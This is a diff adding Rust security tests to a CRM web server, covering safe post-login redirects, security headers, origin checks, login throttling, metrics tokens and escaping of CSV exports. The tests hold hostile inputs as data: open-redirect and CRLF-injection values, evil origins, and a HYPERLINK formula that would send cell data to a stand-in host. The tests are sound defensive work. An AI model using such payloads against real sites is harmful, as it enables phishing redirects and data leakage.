@@ -658,7 +658,11 @@ async fn csv_import_maps_columns_reports_rejected_rows_and_export_round_trips() 
 
     let export = fx.get(&olivia, "/contacts/export.csv?sort=name").await;
     assert_eq!(export.status, StatusCode::OK);
-    let mut reader = csv::Reader::from_reader(export.body.as_bytes());
+    let body = export
+        .body
+        .strip_prefix('\u{feff}')
+        .expect("a byte-order mark, for spreadsheet programs");
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
     let header = reader.headers().unwrap().clone();
     assert_eq!(&header[0], "id");
     let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
@@ -823,4 +827,244 @@ async fn the_review_page_shows_held_changes_to_office_and_managers_and_takes_dec
     fx.sync(&mut ann).await;
     assert_eq!(ann.outbox_status().unwrap().held, 0);
     assert!(ann.get(&id).is_err());
+}
+
+#[tokio::test]
+async fn sign_in_sends_users_only_to_this_site_and_never_fails() {
+    let fx = fixture();
+    for (next, lands) in [
+        ("/deals?stage=won", "/deals?stage=won"),
+        ("/\t/example.invalid/phish", "/dashboard"),
+        ("/\n/example.invalid", "/dashboard"),
+        ("/\r\nSet-Cookie: x=1", "/dashboard"),
+        ("//example.invalid", "/dashboard"),
+        ("/\\example.invalid", "/dashboard"),
+        ("https://example.invalid/", "/dashboard"),
+        ("javascript:alert(1)", "/dashboard"),
+    ] {
+        let answer = fx
+            .send(form_request(
+                "/login",
+                "",
+                &[
+                    ("username", "ann"),
+                    ("password", "password1"),
+                    ("next", next),
+                ],
+            ))
+            .await;
+        assert_eq!(
+            answer.status,
+            StatusCode::SEE_OTHER,
+            "{next:?}: {}",
+            answer.body
+        );
+        assert_eq!(answer.location, lands, "{next:?}");
+    }
+    // The sign-in page does not carry a foreign `next` along either.
+    let page = fx
+        .send(
+            Request::get("/login?next=%09%2Fexample.invalid")
+                .body(Body::empty())
+                .unwrap(),
+        )
+        .await;
+    assert!(
+        page.body.contains("name=\"next\" value=\"/dashboard\""),
+        "{}",
+        page.body
+    );
+}
+
+#[tokio::test]
+async fn every_page_and_export_carries_the_security_headers() {
+    let fx = fixture();
+    let olivia = fx.sign_in("olivia").await;
+    let id = fx
+        .create(
+            &olivia,
+            "accounts",
+            &[("name", "Acme"), ("territory", "north")],
+        )
+        .await;
+    let record = format!("/r/{id}");
+    for path in [
+        "/login",
+        "/dashboard",
+        "/accounts",
+        record.as_str(),
+        "/accounts/export.csv",
+        "/review",
+        "/no-such-list",
+        "/v1/sync",
+    ] {
+        let response = fx
+            .app
+            .clone()
+            .oneshot(
+                Request::get(path)
+                    .header(header::COOKIE, &olivia.cookie)
+                    .body(Body::empty())
+                    .unwrap(),
+            )
+            .await
+            .unwrap();
+        let h = response.headers();
+        let csp = h[header::CONTENT_SECURITY_POLICY].to_str().unwrap();
+        assert!(csp.contains("frame-ancestors 'none'"), "{path}: {csp}");
+        assert!(
+            csp.contains("script-src 'self'") && !csp.contains("unsafe"),
+            "{path}: {csp}"
+        );
+        assert_eq!(h[header::X_FRAME_OPTIONS], "DENY", "{path}");
+        assert_eq!(h[header::X_CONTENT_TYPE_OPTIONS], "nosniff", "{path}");
+        assert_eq!(h[header::REFERRER_POLICY], "same-origin", "{path}");
+        assert_eq!(h[header::CACHE_CONTROL], "no-store", "{path}");
+    }
+    // The stylesheet may be cached; it is still not sniffed.
+    let css = fx
+        .app
+        .clone()
+        .oneshot(Request::get("/static/app.css").body(Body::empty()).unwrap())
+        .await
+        .unwrap();
+    assert!(css.headers()[header::CACHE_CONTROL]
+        .to_str()
+        .unwrap()
+        .contains("max-age"));
+    assert_eq!(css.headers()[header::X_CONTENT_TYPE_OPTIONS], "nosniff");
+    // Nothing on the pages needs the CSP loosened.
+    for path in [
+        "/dashboard",
+        "/accounts",
+        record.as_str(),
+        "/accounts/new",
+        "/pipeline",
+        "/nope/x",
+    ] {
+        let page = fx.get(&olivia, path).await;
+        for inline in ["style=", "javascript:", "onclick", "<script>"] {
+            assert!(!page.body.contains(inline), "{path} has {inline}");
+        }
+    }
+}
+
+#[tokio::test]
+async fn forms_from_another_site_or_a_null_origin_are_refused_sign_in_included() {
+    let fx = fixture();
+    for origin in [
+        "null",
+        "https://evil.example",
+        "http://crm.example.evil.example",
+        "crm.example",
+    ] {
+        let mut request = form_request(
+            "/login",
+            "",
+            &[("username", "ann"), ("password", "password1")],
+        );
+        request
+            .headers_mut()
+            .insert(header::ORIGIN, origin.parse().unwrap());
+        let response = fx.app.clone().oneshot(request).await.unwrap();
+        assert_eq!(response.status(), StatusCode::FORBIDDEN, "{origin}");
+        assert!(
+            !response.headers().contains_key(header::SET_COOKIE),
+            "{origin}"
+        );
+    }
+    // A client that sends no Origin (not a browser) still signs in.
+    let mut request = form_request(
+        "/login",
+        "",
+        &[("username", "ann"), ("password", "password1")],
+    );
+    request.headers_mut().remove(header::ORIGIN);
+    assert_eq!(fx.send(request).await.status, StatusCode::SEE_OTHER);
+}
+
+#[tokio::test]
+async fn failed_sign_ins_slow_down_the_client_without_locking_the_user_out() {
+    let fx = fixture();
+    let from = |ip: [u8; 4], user: &str, password: &str| {
+        let mut request = form_request("/login", "", &[("username", user), ("password", password)]);
+        let peer = std::net::SocketAddr::from((ip, 40000));
+        request
+            .extensions_mut()
+            .insert(axum::extract::ConnectInfo(peer));
+        request
+    };
+    for _ in 0..fieldcrm_server::login_throttle::FREE_PER_USER {
+        let answer = fx.send(from([203, 0, 113, 9], "ann", "guess-guess")).await;
+        assert_eq!(answer.status, StatusCode::UNAUTHORIZED);
+    }
+    let held = fx.send(from([203, 0, 113, 9], "ann", "password1")).await;
+    assert_eq!(held.status, StatusCode::TOO_MANY_REQUESTS);
+    assert!(
+        held.body.contains("try again in 1 second."),
+        "{}",
+        held.body
+    );
+    // Ann at her own computer is not affected.
+    let ann = fx.send(from([198, 51, 100, 7], "ann", "password1")).await;
+    assert_eq!(ann.status, StatusCode::SEE_OTHER);
+}
+
+#[tokio::test]
+async fn metrics_can_be_kept_to_the_holder_of_a_token() {
+    let fx = fixture();
+    let open = fx
+        .send(Request::get("/metrics").body(Body::empty()).unwrap())
+        .await;
+    assert_eq!(open.status, StatusCode::OK, "open unless a token is set");
+    let state = AppState::with_options(
+        fx.relay.clone(),
+        fieldcrm_server::ServeOptions {
+            metrics_token: Some("scrape-secret".into()),
+            ..Default::default()
+        },
+    )
+    .unwrap();
+    let router = app(state);
+    let metrics = |auth: Option<&str>| {
+        let mut request = Request::get("/metrics");
+        if let Some(auth) = auth {
+            request = request.header(header::AUTHORIZATION, auth);
+        }
+        router.clone().oneshot(request.body(Body::empty()).unwrap())
+    };
+    for refused in [None, Some("Bearer wrong"), Some("scrape-secret")] {
+        let response = metrics(refused).await.unwrap();
+        assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{refused:?}");
+        assert_eq!(response.headers()[header::WWW_AUTHENTICATE], "Bearer");
+    }
+    let response = metrics(Some("Bearer scrape-secret")).await.unwrap();
+    assert_eq!(response.status(), StatusCode::OK);
+    let body = response.into_body().collect().await.unwrap().to_bytes();
+    assert!(String::from_utf8_lossy(&body).contains("fieldcrm_"));
+}
+
+#[tokio::test]
+async fn exported_cells_cannot_run_as_spreadsheet_formulas() {
+    let fx = fixture();
+    let olivia = fx.sign_in("olivia").await;
+    let evil = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")";
+    fx.create(
+        &olivia,
+        "accounts",
+        &[
+            ("name", evil),
+            ("territory", "north"),
+            ("phone", "+44 20 7946 0000"),
+        ],
+    )
+    .await;
+    let export = fx.get(&olivia, "/accounts/export.csv").await;
+    let body = export.body.strip_prefix('\u{feff}').unwrap();
+    let mut reader = csv::Reader::from_reader(body.as_bytes());
+    let header = reader.headers().unwrap().clone();
+    let row = reader.records().next().unwrap().unwrap();
+    let cell = |name: &str| row[header.iter().position(|h| h == name).unwrap()].to_string();
+    assert_eq!(cell("name"), format!("'{evil}"));
+    assert_eq!(cell("phone"), "'+44 20 7946 0000");
 }
